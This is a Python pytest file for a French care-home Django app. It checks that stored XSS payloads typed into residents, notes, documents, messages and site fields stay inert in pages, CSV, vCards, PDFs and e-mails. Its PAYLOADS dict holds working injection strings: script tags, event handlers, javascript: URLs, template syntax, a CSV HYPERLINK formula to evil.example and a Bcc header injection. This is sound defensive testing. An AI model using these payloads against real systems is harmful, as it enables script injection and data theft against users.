"""Stored XSS: hostile text in every free-text field, then every page, export, PDF and e-mail that
shows it is checked inert.

Each payload is written where a person (or an import, or the admin) can type text: a resident's
names, a care note's DAR fields, alerts, messages and conversation names, document titles,
descriptions and comments, folder names, staff names and phones, on-call notes, site and unit
names, a family's message, the families' practical information. Pages are parsed with
html.parser: no element or attribute may come from the payload (no inline script, no event
handler, no javascript: URL, no ``<img src=x>``), and no template syntax is evaluated. CSV cells
that would run as a formula are guarded (carehub/spreadsheets.py), vCards keep one property per
line, PDFs show the text literally, e-mails send (a header cannot be broken).
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import timedelta
from html.parser import HTMLParser
from http import HTTPStatus

import pypdfium2
import pytest
from django.core import mail
from django.urls import reverse
from django.utils import timezone

from carehub.spreadsheets import FORMULA_START
from coordination.models import CareNote, ResidentAlert
from directory.models import OnCallShift, StaffProfile
from documents.models import Folder
from messaging.models import Conversation, Kind, Membership
from portal.models import DigestFrequency, FamilyPreferences, SiteFamilyInfo
from tests.coordination.factories import CareNoteFactory, ResidentFactory, target
from tests.documents.factories import FolderFactory, make_document
from tests.factories import FamilyUserFactory, SiteFactory, UnitFactory, make_staff
from tests.messaging.factories import ConversationFactory, MessageFactory
from tests.portal.factories import link

pytestmark = pytest.mark.django_db

#: What an attacker types. Each carries "xss" so that whatever it became can be recognised.
PAYLOADS = {
    "script": "<script>xss_a()</script>",
    "img onerror": '"><img src=x onerror=xss_b()>',
    "svg onload": "'><svg/onload=xss_c()>",
    "javascript url": "javascript:xss_d()",
    "template": '{{ "xss_t"|add:"injected" }}{% now "Y" %}',
    "csv formula": '=HYPERLINK("https://evil.example/?xss","Ouvrir")',
    "attribute breakout": '" autofocus onfocus="xss_f()" x="',
    "markdown link": "[Ouvrir](javascript:xss_g())",
    "new line": "Durand\r\nBcc: xss@evil.example",
}
EVALUATED = "xss_tinjected"
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster"}


def _fit(text: str, max_length: int) -> str:
    return text[:max_length]


# --- The world, every free-text field holding the payload ----------------------------------------


@dataclass
class World:
    payload: str
    coordinator: object
    staff: object
    relative: object
    site: object
    unit: object
    resident: object
    note: CareNote
    folder: Folder
    document: object
    group: object
    other: object


def build_world(payload: str, media_root) -> World:
    site = SiteFactory(name=_fit(f"EHPAD {payload}", 150), city=_fit(payload, 100), address=payload)
    unit = UnitFactory(site=site, name=_fit(f"Unité {payload}", 100))
    coordinator = make_staff(site, coordinator=True, first_name=_fit(payload, 150), last_name="Idec")
    staff = make_staff(site, unit=unit, first_name="Aide", last_name=_fit(payload, 150))
    StaffProfile.objects.filter(user=staff).update(phone_extension=_fit(payload, 20), mobile=_fit(payload, 30))
    other = make_staff(site, unit=unit, first_name="Autre", last_name="Collègue")
    resident = ResidentFactory(
        site=site,
        unit=unit,
        first_name=_fit(payload, 100),
        last_name=_fit(payload, 100),
        preferred_name=_fit(payload, 100),
    )
    ResidentAlert.objects.create(
        resident=resident, kind=ResidentAlert.Kind.FALL_RISK, detail=_fit(payload, 200), created_by=coordinator
    )
    note = CareNoteFactory(
        resident=resident,
        author=staff,
        target=target("douleur"),
        target_detail=_fit(payload, 150),
        data=payload,
        action=payload,
        result=payload,
        priority=CareNote.Priority.URGENT,
        is_family_visible=True,
    )
    folder = FolderFactory(scope=Folder.Scope.SITE, site=site, name=_fit(payload, 150), created_by=coordinator)
    document = make_document(folder, coordinator, title=_fit(payload, 255), comment=payload)
    document.description = payload
    document.save(update_fields=["description"])
    group = ConversationFactory(kind=Kind.GROUP, title=_fit(payload, 150), created_by=coordinator)
    for member in (coordinator, staff):
        Membership.objects.create(conversation=group, user=member)
    MessageFactory(conversation=group, sender=staff, body=payload)
    relative = FamilyUserFactory(first_name=_fit(payload, 150), last_name="Famille")
    family_link = link(relative, resident)
    thread = Conversation.objects.get(kind=Kind.FAMILY, resident=family_link.resident)
    MessageFactory(conversation=thread, sender=relative, body=payload)
    SiteFamilyInfo.objects.update_or_create(site=site, defaults={"visiting_hours": payload, "practical_notes": payload})
    OnCallShift.objects.create(site=site, date=timezone.localdate(), user=staff, unit=unit, note=_fit(payload, 200))
    return World(payload, coordinator, staff, relative, site, unit, resident, note, folder, document, group, other)


# --- Inert, format by format ----------------------------------------------------------------------


class _ActiveParts(HTMLParser):
    """Elements and attributes that would run: what a payload must never become."""

    def __init__(self):
        super().__init__()
        self.found: list[str] = []
        self._inline_script = False

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES and value.startswith(("javascript:", "vbscript:", "data:text/html")):
                self.found.append(f"<{tag} {name}={value}>")
            if name in {"autofocus", "x"} and "xss" in str(values):
                self.found.append(f"<{tag} {name}> from a payload")
        if tag == "img" and values.get("src") == "x":
            self.found.append("<img src=x>")
        if tag == "script":
            self._inline_script = "src" not in values and values.get("type") not in ("application/json",)

    def handle_endtag(self, tag):
        if tag == "script":
            self._inline_script = False

    def handle_data(self, data):
        if self._inline_script and "xss" in data:
            self.found.append("inline script with the payload")


def active_parts(html: str) -> list[str]:
    parser = _ActiveParts()
    parser.feed(html)
    return parser.found + ([EVALUATED] if EVALUATED in html else [])


def formula_cells(text: str) -> list[str]:
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for cell in row]
    return [cell for cell in cells if "xss" in cell and cell.startswith(FORMULA_START)] + (
        [EVALUATED] if EVALUATED in text else []
    )


def vcard_injections(text: str) -> list[str]:
    """Lines a payload added: every line of a vCard is a known property or a folded continuation."""
    known = ("BEGIN", "END", "VERSION", "UID", "N", "FN", "EMAIL", "TITLE", "ORG", "TEL", "NOTE", "PRODID")
    return [
        line
        for line in text.split("\r\n")
        if line and not line.startswith(" ") and line.split(":")[0].split(";")[0].upper() not in known
    ]


def pdf_text(content: bytes) -> str:
    document = pypdfium2.PdfDocument(content)
    return " ".join(" ".join(document[i].get_textpage().get_text_range().split()) for i in range(len(document)))


# --- Pages, exports and e-mails -------------------------------------------------------------------


def _staff_pages(w: World) -> dict[str, str]:
    resident, note, site = w.resident.public_id, w.note.public_id, w.site.public_id
    return {
        "resident list": reverse("coordination:resident_list"),
        "resident page": reverse("coordination:resident_detail", args=[resident]),
        "note page": reverse("coordination:note_detail", args=[note]),
        "new note form": reverse("coordination:note_create", args=[resident]),
        "handover": reverse("coordination:handover") + f"?unit={w.unit.public_id}",
        "handover print": reverse("coordination:handover_print") + f"?unit={w.unit.public_id}",
        "note search": reverse("coordination:search") + "?q=xss",
        "documents": reverse("documents:index"),
        "folder": reverse("documents:folder_detail", args=[w.folder.public_id]),
        "document": reverse("documents:document_detail", args=[w.document.public_id]),
        "document search": reverse("documents:search") + "?q=xss",
        "resident folder": reverse("documents:resident_folder", args=[resident]),
        "conversations": reverse("messaging:index"),
        "group thread": reverse("messaging:conversation", args=[w.group.public_id]),
        "resident thread": reverse("messaging:resident_thread", args=[resident]),
        "message search": reverse("messaging:search") + "?q=xss",
        "directory": reverse("directory:search"),
        "directory search": reverse("directory:search") + "?q=Aide",
        "profile": reverse("directory:profile", args=[w.staff.public_id]),
        "sites": reverse("directory:sites"),
        "site": reverse("directory:site_detail", args=[site]),
        "on-call roster": reverse("directory:oncall_roster", args=[site]),
        "family access": reverse("portal:resident_family", args=[resident]),
        "admin residents": reverse("admin:coordination_resident_changelist"),
        "admin resident": reverse("admin:coordination_resident_change", args=[w.resident.pk]),
        "admin notes": reverse("admin:coordination_carenote_changelist"),
        "admin note": reverse("admin:coordination_carenote_change", args=[w.note.pk]),
        "admin users": reverse("admin:accounts_user_changelist"),
        "admin user": reverse("admin:accounts_user_change", args=[w.staff.pk]),
        "admin staff profiles": reverse("admin:directory_staffprofile_changelist"),
        "admin folders": reverse("admin:documents_folder_changelist"),
        "admin conversations": reverse("admin:messaging_conversation_changelist"),
        "admin sites": reverse("admin:directory_site_changelist"),
        "admin on-call": reverse("admin:directory_oncallshift_changelist"),
    }


def _family_pages(w: World) -> dict[str, str]:
    resident = w.resident.public_id
    return {
        "family home": reverse("portal:home"),
        "family news": reverse("portal:news", args=[resident]),
        "family documents": reverse("portal:documents", args=[resident]),
        "family messages": reverse("portal:messages", args=[resident]),
        "family practical": reverse("portal:practical", args=[resident]),
        "family account": reverse("portal:account"),
    }


@pytest.fixture(params=list(PAYLOADS), ids=list(PAYLOADS))
def world(request, media_root, settings):
    settings.LANGUAGE_CODE = "fr"
    return build_world(PAYLOADS[request.param], media_root)


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_every_page_shows_the_payload_inert(world, verified_client):
    """The coordinator's pages (care, documents, messaging, directory, admin) and the relative's."""
    staff, relative = verified_client(world.coordinator), verified_client(world.relative)
    pages = [(staff, name, url) for name, url in _staff_pages(world).items()]
    pages += [(relative, name, url) for name, url in _family_pages(world).items()]
    found = {}
    for client, name, url in pages:
        response = client.get(url, HTTP_ACCEPT_LANGUAGE="fr", follow=True)
        problems = active_parts(_body(response).decode())
        if response.status_code != HTTPStatus.OK or problems:
            found[name] = (response.status_code, problems)
    assert found == {}


def test_exports_show_the_payload_as_text(world, verified_client):
    """The directory's CSV and vCards, the handover PDF."""
    client = verified_client(world.coordinator)
    site_csv = _body(client.get(reverse("directory:site_csv", args=[world.site.public_id]))).decode()
    cards = _body(client.get(reverse("directory:profile_vcard", args=[world.staff.public_id]))).decode()
    cards += _body(client.get(reverse("directory:site_vcards", args=[world.site.public_id]))).decode()
    handover = client.get(reverse("coordination:handover_pdf"), {"unit": str(world.unit.public_id)})
    shown = pdf_text(_body(handover))
    literal = " ".join(world.payload.split())[:20]
    assert {
        "csv formulas": formula_cells(site_csv),
        "vcard lines": vcard_injections(cards),
        "pdf shows the text": literal in shown and EVALUATED not in shown,
    } == {"csv formulas": [], "vcard lines": [], "pdf shows the text": True}


def test_the_family_digest_is_sent_with_the_text_as_written(world, settings):
    from portal.digests import family_digest_send

    FamilyPreferences.objects.update_or_create(user=world.relative, defaults={"digest": DigestFrequency.DAILY})
    later = timezone.now() + timedelta(days=1, hours=8)
    family_digest_send(user_id=world.relative.pk, now=later)
    sent = [(m.subject, m.body) for m in mail.outbox]
    assert (len(sent), any(EVALUATED in s + b for s, b in sent)) == (1, False)


def test_the_invitation_is_sent_with_the_site_name_as_written(world, django_capture_on_commit_callbacks):
    from portal.models import Relationship
    from portal.services import invitation_create

    with django_capture_on_commit_callbacks(execute=True):
        invitation_create(
            actor=world.coordinator,
            resident=world.resident,
            email="nouveau@famille.test",
            relationship=Relationship.CHILD,
            may_see_news=True,
            may_see_documents=False,
            may_see_messages=False,
        )
    sent = [(m.subject, m.body) for m in mail.outbox]
    assert (len(sent), any(EVALUATED in s + b for s, b in sent)) == (1, False)
